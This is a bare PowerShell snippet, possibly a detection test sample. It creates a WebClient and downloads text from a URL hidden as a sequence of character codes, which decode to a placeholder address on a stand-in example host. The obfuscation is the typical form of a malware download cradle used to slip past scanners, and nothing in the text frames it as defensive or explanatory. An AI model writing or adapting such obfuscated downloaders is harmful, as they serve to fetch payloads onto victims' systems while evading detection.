$wc = New-Object System.Net.WebClient
$wc.DownloadString(([char]104+[char]116+[char]116+[char]112+[char]58+[char]47+[char]47+[char]97+[char]46+[char]101+[char]120+[char]97+[char]109+[char]112+[char]108+[char]101+[char]47+[char]112+[char]47+[char]120+[char]46+[char]116+[char]120+[char]116))
